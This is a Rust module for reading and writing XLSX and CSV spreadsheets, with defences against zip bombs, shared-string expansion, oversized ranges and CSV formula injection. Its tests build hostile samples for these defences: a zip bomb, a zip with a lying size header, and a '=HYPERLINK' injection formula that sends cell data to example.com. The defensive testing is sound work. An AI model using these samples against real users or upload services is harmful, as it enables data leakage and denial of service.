//! Reading and writing the spreadsheets people exchange: XLSX and CSV.
//!
//! Reading is defensive. An upload is already size-capped by the router; here
//! an XLSX (a zip) is checked entry by entry before calamine sees it — declared
//! sizes, their total, the compression ratio, and the real decompressed size of
//! every XML part read through a `take()` limit — and its first worksheet is
//! streamed cell by cell, its text counted against the same cap (a shared
//! string is copied into every cell that uses it), so neither a zip bomb, nor
//! one long string named by many cells, nor a sheet that names cell
//! XFD1048576 can allocate more than the caps allow. CSV is decoded as UTF-8
//! (with or without BOM), UTF-16 with BOM, or whatever chardetng detects
//! (GBK is read as its superset GB18030); undecodable bytes are refused.

use std::io::{Cursor, Read};

use calamine::{DataRef, Reader, SheetType, SheetVisible, Xlsx};
use encoding_rs::{Encoding, GB18030, GBK, UTF_16BE, UTF_16LE};

use crate::error::{AppError, FieldError};

/// The most decompressed bytes an XLSX may hold, all parts together.
pub const MAX_UNCOMPRESSED: u64 = 100 * 1024 * 1024;
/// The most parts an XLSX may hold.
pub const MAX_ZIP_ENTRIES: usize = 2_000;
/// The highest compression ratio accepted for a part larger than [`RATIO_FLOOR`].
/// Spreadsheet XML compresses 5–30 times; bombs compress a thousand times.
pub const MAX_RATIO: u64 = 200;
/// Parts smaller than this are not ratio-checked (tiny parts compress oddly).
pub const RATIO_FLOOR: u64 = 1024 * 1024;
/// The most columns a row may use; cells further right must be empty.
pub const MAX_COLUMNS: usize = 100;

/// Why a file could not be read as a table.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
pub enum TableError {
    #[error("unsupported file type")]
    UnsupportedType,
    #[error("file larger than {max_bytes} bytes")]
    TooLarge { max_bytes: usize },
    #[error("more than {max} data rows")]
    TooManyRows { max: usize },
    #[error("more than {max} columns")]
    TooManyColumns { max: usize },
    #[error("text in an unknown or broken encoding")]
    Undecodable,
    #[error("an old .xls workbook or a password-protected file")]
    LegacyOrEncrypted,
    #[error("not an XLSX workbook")]
    NotXlsx,
    #[error("decompresses to too much data (zip bomb?)")]
    Bomb,
    #[error("malformed file: {0}")]
    Malformed(String),
    #[error("the workbook has no worksheet")]
    NoWorksheet,
    #[error("the file is empty")]
    Empty,
}

impl TableError {
    /// The catalogue key of the message shown to the user.
    pub fn key(&self) -> &'static str {
        match self {
            TableError::UnsupportedType => "err-import-file-type",
            TableError::TooLarge { .. } => "err-import-file-too-large",
            TableError::TooManyRows { .. } => "err-import-too-many-rows",
            TableError::TooManyColumns { .. } => "err-import-too-many-columns",
            TableError::Undecodable => "err-import-encoding",
            TableError::LegacyOrEncrypted => "err-import-legacy-xls",
            TableError::NotXlsx => "err-import-not-xlsx",
            TableError::Bomb => "err-import-zip-bomb",
            TableError::Malformed(_) => "err-import-malformed",
            TableError::NoWorksheet => "err-import-no-sheet",
            TableError::Empty => "err-import-empty",
        }
    }

    /// The error as a field error on the uploaded file.
    pub fn field_error(&self) -> FieldError {
        let e = FieldError::new("file", self.key());
        match self {
            TableError::TooLarge { max_bytes } => e.arg("mb", max_bytes.div_ceil(1024 * 1024)),
            TableError::TooManyRows { max } | TableError::TooManyColumns { max } => {
                e.arg("max", max)
            }
            _ => e,
        }
    }
}

impl From<TableError> for AppError {
    fn from(e: TableError) -> Self {
        AppError::Validation(vec![e.field_error()])
    }
}

/// The formats a file name may announce.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Format {
    Xlsx,
    Csv,
}

impl Format {
    /// The format named by a file's extension; anything but `.xlsx` and `.csv` is refused.
    pub fn of(filename: &str) -> Result<Format, TableError> {
        let lower = filename.trim().to_ascii_lowercase();
        if lower.ends_with(".xlsx") {
            Ok(Format::Xlsx)
        } else if lower.ends_with(".csv") {
            Ok(Format::Csv)
        } else {
            Err(TableError::UnsupportedType)
        }
    }
}

/// Reads the first worksheet of an XLSX or a CSV file into rows of text.
///
/// Row `i` of the result is row `i + 1` as Excel numbers it (blank rows are kept
/// as empty rows so row numbers stay true); trailing empty cells are dropped.
/// A file with more than `max_rows` rows below the first is refused.
pub fn read_table(
    filename: &str,
    bytes: &[u8],
    max_rows: usize,
) -> Result<Vec<Vec<String>>, TableError> {
    let table = match Format::of(filename)? {
        Format::Xlsx => read_xlsx(bytes, max_rows)?,
        Format::Csv => read_csv(bytes, max_rows)?,
    };
    if table.iter().all(|r| r.iter().all(|c| c.trim().is_empty())) {
        return Err(TableError::Empty);
    }
    Ok(table)
}

/// The index of the last row allowed: a header and `max_rows` rows below it.
fn row_cap(max_rows: usize) -> usize {
    max_rows.saturating_add(1)
}

/// Puts `value` at (`row`, `col`), growing the table; refuses rows and columns past the caps.
fn place(
    table: &mut Vec<Vec<String>>,
    row: usize,
    col: usize,
    value: String,
    max_rows: usize,
) -> Result<(), TableError> {
    if value.trim().is_empty() {
        return Ok(());
    }
    if row >= row_cap(max_rows) {
        return Err(TableError::TooManyRows { max: max_rows });
    }
    if col >= MAX_COLUMNS {
        return Err(TableError::TooManyColumns { max: MAX_COLUMNS });
    }
    if table.len() <= row {
        table.resize_with(row + 1, Vec::new);
    }
    let cells = &mut table[row];
    if cells.len() <= col {
        cells.resize(col + 1, String::new());
    }
    cells[col] = value;
    Ok(())
}

// ---- CSV ----

/// Decodes CSV bytes: BOM first, then valid UTF-8, then chardetng's guess.
pub fn decode_text(bytes: &[u8]) -> Result<String, TableError> {
    if let Some((enc, bom_len)) = Encoding::for_bom(bytes) {
        return decode_with(enc, &bytes[bom_len..]);
    }
    if let Ok(s) = std::str::from_utf8(bytes) {
        return Ok(s.to_string());
    }
    let mut detector = chardetng::EncodingDetector::new(chardetng::Iso2022JpDetection::Deny);
    detector.feed(bytes, true);
    let guess = detector.guess(None, chardetng::Utf8Detection::Allow);
    // GBK files written by Excel and WPS may hold GB18030-only characters; the
    // superset decodes both.
    let enc = if guess == GBK { GB18030 } else { guess };
    decode_with(enc, bytes)
}

fn decode_with(enc: &'static Encoding, bytes: &[u8]) -> Result<String, TableError> {
    if enc == UTF_16LE || enc == UTF_16BE {
        let (text, had_errors) = enc.decode_without_bom_handling(bytes);
        if had_errors {
            return Err(TableError::Undecodable);
        }
        return Ok(text.into_owned());
    }
    enc.decode_without_bom_handling_and_without_replacement(bytes)
        .map(|c| c.into_owned())
        .ok_or(TableError::Undecodable)
}

/// The delimiter of the first line: comma, tab (Excel's "Unicode text") or semicolon.
fn sniff_delimiter(text: &str) -> u8 {
    let first = text.lines().next().unwrap_or("");
    [b',', b'\t', b';']
        .into_iter()
        .max_by_key(|d| (first.matches(*d as char).count(), *d == b','))
        .unwrap_or(b',')
}

fn read_csv(bytes: &[u8], max_rows: usize) -> Result<Vec<Vec<String>>, TableError> {
    let text = decode_text(bytes)?;
    let text = text.strip_prefix('\u{feff}').unwrap_or(&text);
    let mut reader = csv::ReaderBuilder::new()
        .has_headers(false)
        .flexible(true)
        .delimiter(sniff_delimiter(text))
        .from_reader(text.as_bytes());
    let mut table = Vec::new();
    let mut record = csv::StringRecord::new();
    // Excel shows a quoted line break inside a cell as part of that cell, so the
    // row number of a record is its first line minus earlier embedded breaks.
    let mut embedded_breaks = 0usize;
    // Line breaks before the current record, counted from byte offsets.
    let (mut counted_to, mut breaks_before) = (0usize, 0usize);
    let bytes = text.as_bytes();
    loop {
        match reader.read_record(&mut record) {
            Ok(false) => break,
            Ok(true) => {
                let mut start = record
                    .position()
                    .map_or(0, |p| p.byte() as usize)
                    .min(bytes.len());
                // The reader may place a record's start on the line break before it.
                while start < bytes.len() && matches!(bytes[start], b'\r' | b'\n') {
                    start += 1;
                }
                if start > counted_to {
                    breaks_before += bytes[counted_to..start]
                        .iter()
                        .filter(|b| **b == b'\n')
                        .count();
                    counted_to = start;
                }
                let row = breaks_before.saturating_sub(embedded_breaks);
                for (col, cell) in record.iter().enumerate() {
                    place(&mut table, row, col, unescape_formula(cell), max_rows)?;
                    embedded_breaks += cell.matches('\n').count();
                }
            }
            Err(e) => return Err(TableError::Malformed(e.to_string())),
        }
    }
    Ok(table)
}

/// The first characters that make Excel and WPS read a CSV cell as a formula.
const FORMULA_LEADS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// A text cell as written to CSV: one that would start a formula gets a leading
/// apostrophe, so a name such as `=HYPERLINK(…)` typed by one user is not run
/// by the spreadsheet of another who opens an export (CSV injection). Text that
/// starts with an apostrophe gets one more, so [`unescape_formula`] restores it.
fn escape_formula(s: &str) -> String {
    if s.starts_with(FORMULA_LEADS) || s.starts_with('\'') {
        format!("'{s}")
    } else {
        s.to_string()
    }
}

/// A CSV cell as read: the apostrophe [`escape_formula`] added is dropped again,
/// so an exported file imports unchanged.
fn unescape_formula(cell: &str) -> String {
    match cell.strip_prefix('\'') {
        Some(rest) if rest.starts_with(FORMULA_LEADS) || rest.starts_with('\'') => rest.to_string(),
        _ => cell.to_string(),
    }
}

// ---- XLSX ----

/// Checks a zip before anything decompresses it: entry count, declared sizes,
/// their total, compression ratios, and (through a `take()` limit, so a lying
/// header cannot blow memory) the real size of every XML part.
pub fn check_zip(bytes: &[u8]) -> Result<(), TableError> {
    if bytes.starts_with(&[0xD0, 0xCF, 0x11, 0xE0]) {
        return Err(TableError::LegacyOrEncrypted);
    }
    if !bytes.starts_with(b"PK\x03\x04") {
        return Err(TableError::NotXlsx);
    }
    let mut zip = zip::ZipArchive::new(Cursor::new(bytes)).map_err(|_| TableError::NotXlsx)?;
    if zip.len() > MAX_ZIP_ENTRIES {
        return Err(TableError::Bomb);
    }
    let mut total: u64 = 0;
    let mut xml_parts = Vec::new();
    for i in 0..zip.len() {
        let entry = zip
            .by_index_raw(i)
            .map_err(|e| TableError::Malformed(e.to_string()))?;
        let size = entry.size();
        total = total.saturating_add(size);
        if total > MAX_UNCOMPRESSED {
            return Err(TableError::Bomb);
        }
        if size > RATIO_FLOOR && size / entry.compressed_size().max(1) > MAX_RATIO {
            return Err(TableError::Bomb);
        }
        if entry.encrypted() {
            return Err(TableError::LegacyOrEncrypted);
        }
        let name = entry
            .name()
            .map(|n| n.to_ascii_lowercase())
            .unwrap_or_default();
        if name.ends_with(".xml") || name.ends_with(".rels") {
            xml_parts.push((i, size));
        }
    }
    for (i, declared) in xml_parts {
        let entry = zip
            .by_index(i)
            .map_err(|e| TableError::Malformed(e.to_string()))?;
        let read = std::io::copy(&mut entry.take(declared + 1), &mut std::io::sink())
            .map_err(|_| TableError::Bomb)?;
        if read > declared {
            return Err(TableError::Bomb);
        }
    }
    Ok(())
}

fn calamine_error(e: calamine::XlsxError) -> TableError {
    match e {
        calamine::XlsxError::Password => TableError::LegacyOrEncrypted,
        calamine::XlsxError::Zip(_) => TableError::NotXlsx,
        other => TableError::Malformed(other.to_string()),
    }
}

/// A cell's value as the text a person sees, without float noise on whole numbers.
fn cell_text(v: &DataRef<'_>) -> String {
    match v {
        DataRef::Empty => String::new(),
        DataRef::String(s) | DataRef::DateTimeIso(s) | DataRef::DurationIso(s) => s.clone(),
        DataRef::SharedString(s) => (*s).to_string(),
        DataRef::Int(i) => i.to_string(),
        DataRef::Float(f) => float_text(*f),
        DataRef::Bool(b) => b.to_string(),
        DataRef::DateTime(dt) => {
            if dt.is_datetime() {
                excel_date(dt.as_f64())
            } else {
                float_text(dt.as_f64())
            }
        }
        DataRef::Error(e) => e.to_string(),
    }
}

fn float_text(f: f64) -> String {
    if f.fract() == 0.0 && f.abs() < 1e15 {
        format!("{}", f as i64)
    } else {
        f.to_string()
    }
}

/// An Excel serial date (days since 1899-12-30) as `YYYY-MM-DD[ HH:MM]`.
fn excel_date(serial: f64) -> String {
    let Some(base) = chrono::NaiveDate::from_ymd_opt(1899, 12, 30) else {
        return float_text(serial);
    };
    let days = serial.floor();
    let secs = ((serial - days) * 86_400.0).round() as i64;
    match base
        .and_hms_opt(0, 0, 0)
        .and_then(|d| d.checked_add_signed(chrono::TimeDelta::days(days as i64)))
        .and_then(|d| d.checked_add_signed(chrono::TimeDelta::seconds(secs)))
    {
        Some(dt) if secs == 0 => dt.format("%Y-%m-%d").to_string(),
        Some(dt) => dt.format("%Y-%m-%d %H:%M").to_string(),
        None => float_text(serial),
    }
}

fn read_xlsx(bytes: &[u8], max_rows: usize) -> Result<Vec<Vec<String>>, TableError> {
    check_zip(bytes)?;
    let mut book = Xlsx::new(Cursor::new(bytes)).map_err(calamine_error)?;
    let sheets = book.sheets_metadata().to_vec();
    let worksheets: Vec<_> = sheets
        .iter()
        .filter(|s| s.typ == SheetType::WorkSheet)
        .collect();
    let name = worksheets
        .iter()
        .find(|s| s.visible == SheetVisible::Visible)
        .or(worksheets.first())
        .map(|s| s.name.clone())
        .ok_or(TableError::NoWorksheet)?;
    read_sheet(&mut book, &name, max_rows, &mut 0)
}

/// A worksheet's name and rows.
pub type NamedSheet = (String, Vec<Vec<String>>);

/// Reads every worksheet of an XLSX, in workbook order, as (name, rows) with
/// the same checks and caps as [`read_table`] (the text cap counts all sheets
/// together; `max_rows` applies to each). Used by importers of multi-sheet
/// workbooks such as XLSForms.
pub fn read_xlsx_sheets(bytes: &[u8], max_rows: usize) -> Result<Vec<NamedSheet>, TableError> {
    check_zip(bytes)?;
    let mut book = Xlsx::new(Cursor::new(bytes)).map_err(calamine_error)?;
    let names: Vec<String> = book
        .sheets_metadata()
        .iter()
        .filter(|s| s.typ == SheetType::WorkSheet)
        .map(|s| s.name.clone())
        .collect();
    let mut text_bytes = 0;
    let mut out = Vec::with_capacity(names.len());
    for name in names {
        let table = read_sheet(&mut book, &name, max_rows, &mut text_bytes)?;
        out.push((name, table));
    }
    Ok(out)
}

fn read_sheet(
    book: &mut Xlsx<Cursor<&[u8]>>,
    name: &str,
    max_rows: usize,
    text_bytes: &mut u64,
) -> Result<Vec<Vec<String>>, TableError> {
    let mut cells = book.worksheet_cells_reader(name).map_err(calamine_error)?;
    let mut table = Vec::new();
    // A shared string is stored once in the file but copied into every cell
    // that refers to it, so the text read is capped like the parts themselves:
    // otherwise a few kilobytes that name one long string in many cells expand
    // to gigabytes here, past every check of `check_zip`.
    while let Some(cell) = cells.next_cell().map_err(calamine_error)? {
        let (row, col) = cell.get_position();
        let value = cell_text(cell.get_value());
        *text_bytes = text_bytes.saturating_add(value.len() as u64);
        if *text_bytes > MAX_UNCOMPRESSED {
            return Err(TableError::Bomb);
        }
        place(&mut table, row as usize, col as usize, value, max_rows)?;
    }
    Ok(table)
}

// ---- writing ----

/// One exported cell.
#[derive(Clone, Debug, PartialEq)]
pub enum Cell {
    Text(String),
    Int(i64),
    Empty,
}

impl Cell {
    /// Text, or empty when absent.
    pub fn opt(s: Option<&str>) -> Cell {
        match s {
            Some(s) if !s.is_empty() => Cell::Text(s.to_string()),
            _ => Cell::Empty,
        }
    }

    fn text(&self) -> String {
        match self {
            Cell::Text(s) => s.clone(),
            Cell::Int(i) => i.to_string(),
            Cell::Empty => String::new(),
        }
    }
}

/// A column header of an exported sheet.
#[derive(Clone, Debug)]
pub struct Header {
    pub title: String,
    /// Width in Excel character units.
    pub width: f64,
    /// Keep the column as text (codes, phone numbers) so Excel does not turn
    /// 0-led or 18-digit values into numbers.
    pub text: bool,
}

/// An XLSX with one sheet: bold frozen header row, column widths, text columns.
pub fn write_xlsx(
    sheet_name: &str,
    headers: &[Header],
    rows: &[Vec<Cell>],
) -> Result<Vec<u8>, rust_xlsxwriter::XlsxError> {
    write_xlsx_with_notes(sheet_name, headers, rows, None)
}

/// Like [`write_xlsx`], with a second sheet of notes (title, lines) for templates.
pub fn write_xlsx_with_notes(
    sheet_name: &str,
    headers: &[Header],
    rows: &[Vec<Cell>],
    notes: Option<(&str, &[Vec<String>])>,
) -> Result<Vec<u8>, rust_xlsxwriter::XlsxError> {
    use rust_xlsxwriter::{Format, FormatBorder, Workbook};
    let mut book = Workbook::new();
    let bold = Format::new()
        .set_bold()
        .set_background_color("#EAF1FB")
        .set_border_bottom(FormatBorder::Thin);
    let text = Format::new().set_num_format("@");
    let sheet = book.add_worksheet();
    sheet.set_name(sheet_name)?;
    for (c, h) in headers.iter().enumerate() {
        let col = c as u16;
        sheet.set_column_width(col, h.width)?;
        if h.text {
            sheet.set_column_format(col, &text)?;
        }
        sheet.write_string_with_format(0, col, &h.title, &bold)?;
    }
    sheet.set_freeze_panes(1, 0)?;
    for (r, row) in rows.iter().enumerate() {
        let r = (r + 1) as u32;
        for (c, cell) in row.iter().enumerate() {
            let col = c as u16;
            match cell {
                Cell::Text(s) if headers.get(c).is_some_and(|h| h.text) => {
                    sheet.write_string_with_format(r, col, s, &text)?;
                }
                Cell::Text(s) => {
                    sheet.write_string(r, col, s)?;
                }
                Cell::Int(i) => {
                    sheet.write_number(r, col, *i as f64)?;
                }
                Cell::Empty => {}
            }
        }
    }
    if let Some((title, lines)) = notes {
        let notes_sheet = book.add_worksheet();
        notes_sheet.set_name(title)?;
        notes_sheet.set_column_width(0, 24)?;
        notes_sheet.set_column_width(1, 12)?;
        notes_sheet.set_column_width(2, 80)?;
        for (r, line) in lines.iter().enumerate() {
            for (c, s) in line.iter().enumerate() {
                if r == 0 {
                    notes_sheet.write_string_with_format(r as u32, c as u16, s, &bold)?;
                } else {
                    notes_sheet.write_string(r as u32, c as u16, s)?;
                }
            }
        }
    }
    book.save_to_buffer()
}

/// A table as a file in `format`: the bytes, the extension and the MIME type.
pub fn encode(
    format: Format,
    sheet_name: &str,
    headers: &[Header],
    rows: &[Vec<Cell>],
) -> Result<(Vec<u8>, &'static str, &'static str), rust_xlsxwriter::XlsxError> {
    Ok(match format {
        Format::Xlsx => (
            write_xlsx(sheet_name, headers, rows)?,
            "xlsx",
            "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
        ),
        Format::Csv => (write_csv(headers, rows), "csv", "text/csv; charset=utf-8"),
    })
}

/// A CSV in UTF-8 with a BOM, so Excel in China opens the Chinese correctly.
/// Text that would start a formula is escaped ([`escape_formula`]).
pub fn write_csv(headers: &[Header], rows: &[Vec<Cell>]) -> Vec<u8> {
    let mut out = b"\xEF\xBB\xBF".to_vec();
    {
        let mut w = csv::WriterBuilder::new()
            .terminator(csv::Terminator::CRLF)
            .from_writer(&mut out);
        // Writing to a Vec cannot fail.
        let _ = w.write_record(headers.iter().map(|h| h.title.as_str()));
        for row in rows {
            let _ = w.write_record(row.iter().map(|c| match c {
                Cell::Text(s) => escape_formula(s),
                other => other.text(),
            }));
        }
        let _ = w.flush();
    }
    out
}

#[cfg(test)]
mod tests {
    use std::io::Write;

    use super::*;

    const ROWS: [[&str; 3]; 3] = [
        ["名称", "统一社会信用代码", "联系电话"],
        ["上海华信物流有限公司", "91310110MA1G8KXX1Q", "13800138000"],
        ["杨浦区“速达”快递, 站", "91310110MA1G8KXX2Q", ""],
    ];

    fn csv_text() -> String {
        let mut s = String::new();
        for r in ROWS {
            let cells: Vec<String> = r
                .iter()
                .map(|c| {
                    if c.contains([',', '"']) {
                        format!("\"{}\"", c.replace('"', "\"\""))
                    } else {
                        c.to_string()
                    }
                })
                .collect();
            s.push_str(&cells.join(","));
            s.push_str("\r\n");
        }
        s
    }

    fn expected() -> Vec<Vec<String>> {
        ROWS.iter()
            .map(|r| {
                let mut v: Vec<String> = r.iter().map(|s| s.to_string()).collect();
                while v.last().is_some_and(String::is_empty) {
                    v.pop();
                }
                v
            })
            .collect()
    }

    #[test]
    fn csv_reads_the_same_in_utf8_with_and_without_bom_and_in_gbk() {
        let text = csv_text();
        let plain = read_table("a.csv", text.as_bytes(), 10).unwrap();
        let mut with_bom = b"\xEF\xBB\xBF".to_vec();
        with_bom.extend_from_slice(text.as_bytes());
        let bom = read_table("a.CSV", &with_bom, 10).unwrap();
        let (gbk, _, unmappable) = GBK.encode(&text);
        assert!(!unmappable);
        assert!(
            std::str::from_utf8(&gbk).is_err(),
            "GBK bytes must not pass as UTF-8"
        );
        let gbk = read_table("a.csv", &gbk, 10).unwrap();
        assert_eq!(plain, expected());
        assert_eq!(bom, expected());
        assert_eq!(gbk, expected());
    }

    #[test]
    fn gb18030_only_characters_and_utf16_excel_text_are_read() {
        // 䶮 is outside GBK but inside GB18030.
        let text = "名称,地址\r\n刘䶮企业,杨浦区\r\n";
        let (bytes, _, unmappable) = GB18030.encode(text);
        assert!(!unmappable);
        let t = read_table("x.csv", &bytes, 10).unwrap();
        assert_eq!(t[1], ["刘䶮企业", "杨浦区"]);
        let mut utf16 = vec![0xFF, 0xFE];
        for u in "名称\t地址\r\n华信\t杨浦\r\n".encode_utf16() {
            utf16.extend_from_slice(&u.to_le_bytes());
        }
        let t = read_table("x.csv", &utf16, 10).unwrap();
        assert_eq!(t[1], ["华信", "杨浦"]);
    }

    #[test]
    fn undecodable_text_is_refused() {
        // A lone UTF-16 surrogate after a UTF-16 BOM.
        let bad = [0xFF, 0xFE, 0x00, 0xD8, 0x41, 0x00];
        assert_eq!(read_table("x.csv", &bad, 10), Err(TableError::Undecodable));
    }

    #[test]
    fn csv_row_numbers_follow_excel_through_blank_lines_and_quoted_breaks() {
        let text = "名称,地址\n\n\"甲\n公司\",一路\n乙,二路\n";
        let t = read_table("x.csv", text.as_bytes(), 10).unwrap();
        assert_eq!(t.len(), 4);
        assert!(t[1].is_empty());
        assert_eq!(t[2][0], "甲\n公司");
        assert_eq!(t[3], ["乙", "二路"]);
    }

    #[test]
    fn other_extensions_and_too_many_rows_are_refused() {
        assert_eq!(
            read_table("a.xls", b"x", 10),
            Err(TableError::UnsupportedType)
        );
        assert_eq!(
            read_table("a.txt", b"x", 10),
            Err(TableError::UnsupportedType)
        );
        let many: String = (0..12).map(|i| format!("r{i}\n")).collect();
        assert_eq!(
            read_table("a.csv", many.as_bytes(), 10),
            Err(TableError::TooManyRows { max: 10 })
        );
        assert_eq!(read_table("a.csv", b"\n,,\n", 10), Err(TableError::Empty));
    }

    #[test]
    fn xlsx_round_trips_text_numbers_and_row_positions() {
        let headers: Vec<Header> = ["代码", "名称", "排序号"]
            .iter()
            .map(|t| Header {
                title: t.to_string(),
                width: 12.0,
                text: *t == "代码",
            })
            .collect();
        let rows = vec![
            vec![
                Cell::Text("007".into()),
                Cell::Text("甲".into()),
                Cell::Int(3),
            ],
            vec![Cell::Empty, Cell::Empty, Cell::Empty],
            vec![Cell::Text("9".into()), Cell::Empty, Cell::Int(-2)],
        ];
        let bytes = write_xlsx("组织", &headers, &rows).unwrap();
        let t = read_table("export.xlsx", &bytes, 10).unwrap();
        assert_eq!(t[0], ["代码", "名称", "排序号"]);
        assert_eq!(t[1], ["007", "甲", "3"]);
        assert!(t[2].is_empty());
        assert_eq!(t[3], ["9", "", "-2"]);
        let csv = write_csv(&headers, &rows);
        assert!(csv.starts_with(b"\xEF\xBB\xBF"));
        assert_eq!(read_table("e.csv", &csv, 10).unwrap(), t);
    }

    #[test]
    fn csv_exports_escape_formulas_and_read_them_back_as_text() {
        let headers = [
            Header {
                title: "名称".into(),
                width: 10.0,
                text: false,
            },
            Header {
                title: "排序号".into(),
                width: 10.0,
                text: false,
            },
        ];
        let names = [
            "=HYPERLINK(\"http://example.com/?\"&A1,\"点我\")",
            "+1+2",
            "-2+3",
            "@SUM(A1)",
            "\t=1",
            "'=已经带引号",
            "普通公司 = 好",
        ];
        let rows: Vec<Vec<Cell>> = names
            .iter()
            .map(|n| vec![Cell::Text(n.to_string()), Cell::Int(-2)])
            .collect();
        let csv = write_csv(&headers, &rows);
        let text = String::from_utf8(csv.clone()).unwrap();
        assert!(text.contains("\"'=HYPERLINK("), "{text}");
        assert!(
            text.contains("\r\n'+1+2,-2\r\n"),
            "numbers stay numbers: {text}"
        );
        assert!(text.contains("\r\n'@SUM(A1),"), "{text}");
        assert!(text.contains("\r\n普通公司 = 好,"), "{text}");
        assert!(text.contains("\r\n''=已经带引号,"), "{text}");
        let back = read_table("e.csv", &csv, 10).unwrap();
        let got: Vec<&str> = back[1..].iter().map(|r| r[0].as_str()).collect();
        assert_eq!(got, names);
        assert!(back[1..].iter().all(|r| r[1] == "-2"));
        // Files from elsewhere keep a lone apostrophe.
        let t = read_table("x.csv", "名称,地址\r\n'甲,'=1\r\n".as_bytes(), 10).unwrap();
        assert_eq!(t[1], ["'甲", "=1"]);
    }

    #[test]
    fn a_far_away_cell_is_refused_without_allocating_the_range() {
        let headers = [Header {
            title: "名称".into(),
            width: 10.0,
            text: false,
        }];
        let mut book = rust_xlsxwriter::Workbook::new();
        let sheet = book.add_worksheet();
        sheet.write_string(0, 0, &headers[0].title).unwrap();
        sheet.write_string(1_048_575, 16_383, "x").unwrap();
        let bytes = book.save_to_buffer().unwrap();
        assert_eq!(
            read_table("far.xlsx", &bytes, 100_000),
            Err(TableError::TooManyRows { max: 100_000 })
        );
        let mut book = rust_xlsxwriter::Workbook::new();
        let sheet = book.add_worksheet();
        sheet.write_string(0, 16_383, "x").unwrap();
        let bytes = book.save_to_buffer().unwrap();
        assert_eq!(
            read_table("wide.xlsx", &bytes, 100_000),
            Err(TableError::TooManyColumns { max: MAX_COLUMNS })
        );
    }

    fn zip_with(name: &str, data: &[u8]) -> Vec<u8> {
        let mut out = Cursor::new(Vec::new());
        {
            let mut w = zip::ZipWriter::new(&mut out);
            let opts = zip::write::SimpleFileOptions::default()
                .compression_method(zip::CompressionMethod::Deflated)
                .compression_level(Some(9));
            w.start_file(name, opts).unwrap();
            w.write_all(data).unwrap();
            w.finish().unwrap();
        }
        out.into_inner()
    }

    #[test]
    fn a_zip_bomb_named_xlsx_is_refused_quickly() {
        // 150 MB of zeros, written in chunks so the test itself stays small in memory.
        let mut out = Cursor::new(Vec::new());
        {
            let mut w = zip::ZipWriter::new(&mut out);
            let opts = zip::write::SimpleFileOptions::default()
                .compression_method(zip::CompressionMethod::Deflated);
            w.start_file("xl/worksheets/sheet1.xml", opts).unwrap();
            let chunk = vec![0u8; 1 << 20];
            for _ in 0..150 {
                w.write_all(&chunk).unwrap();
            }
            w.finish().unwrap();
        }
        let bomb = out.into_inner();
        assert!(bomb.len() < 400 * 1024, "bomb is {} bytes", bomb.len());
        let checked = std::time::Instant::now();
        assert_eq!(
            read_table("名单.xlsx", &bomb, 100_000),
            Err(TableError::Bomb)
        );
        assert!(
            checked.elapsed().as_millis() < 500,
            "{:?}",
            checked.elapsed()
        );
        // A small part with an absurd ratio is refused too.
        let dense = zip_with("xl/sharedStrings.xml", &vec![b'a'; 8 << 20]);
        assert_eq!(read_table("d.xlsx", &dense, 10), Err(TableError::Bomb));
    }

    #[test]
    fn one_long_shared_string_in_many_cells_is_refused() {
        // 98 KB (Excel's longest cell) stored once, referenced by 1,100 cells:
        // a 10 KB file whose cells hold 108 MB of text.
        let long = "甲".repeat(32_767);
        let mut book = rust_xlsxwriter::Workbook::new();
        let sheet = book.add_worksheet();
        sheet.write_string(0, 0, "名称").unwrap();
        for r in 1..=1_100 {
            sheet.write_string(r, 0, &long).unwrap();
        }
        let bytes = book.save_to_buffer().unwrap();
        assert!(bytes.len() < 64 * 1024, "{} bytes", bytes.len());
        assert_eq!(check_zip(&bytes), Ok(()), "every part is honest and small");
        assert_eq!(read_table("s.xlsx", &bytes, 100_000), Err(TableError::Bomb));
        // The same string in fewer cells is read.
        let mut book = rust_xlsxwriter::Workbook::new();
        let sheet = book.add_worksheet();
        for r in 0..3 {
            sheet.write_string(r, 0, &long).unwrap();
        }
        let bytes = book.save_to_buffer().unwrap();
        assert_eq!(read_table("s.xlsx", &bytes, 10).unwrap().len(), 3);
    }

    #[test]
    fn a_part_larger_than_its_header_says_is_refused() {
        let data = vec![b' '; 64 * 1024];
        let mut bytes = zip_with("xl/workbook.xml", &data);
        // Rewrite the declared uncompressed size (local header offset 22, central
        // directory offset 24) to 100 bytes: the header now lies.
        let lie = 100u32.to_le_bytes();
        bytes[22..26].copy_from_slice(&lie);
        let cd = bytes.windows(4).rposition(|w| w == b"PK\x01\x02").unwrap();
        bytes[cd + 24..cd + 28].copy_from_slice(&lie);
        assert_eq!(check_zip(&bytes), Err(TableError::Bomb));
    }

    #[test]
    fn non_zip_and_legacy_files_named_xlsx_are_refused() {
        assert_eq!(
            read_table("a.xlsx", b"name,code\n1,2\n", 10),
            Err(TableError::NotXlsx)
        );
        let mut ole = vec![0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1];
        ole.resize(512, 0);
        assert_eq!(
            read_table("a.xlsx", &ole, 10),
            Err(TableError::LegacyOrEncrypted)
        );
        // A valid zip that is not a workbook.
        let z = zip_with("hello.txt", b"hi");
        assert!(matches!(
            read_table("a.xlsx", &z, 10),
            Err(TableError::NotXlsx | TableError::Malformed(_))
        ));
        // A truncated workbook.
        let headers = [Header {
            title: "名称".into(),
            width: 10.0,
            text: false,
        }];
        let good = write_xlsx("s", &headers, &[]).unwrap();
        let cut = &good[..good.len() / 2];
        assert!(read_table("a.xlsx", cut, 10).is_err());
    }
}
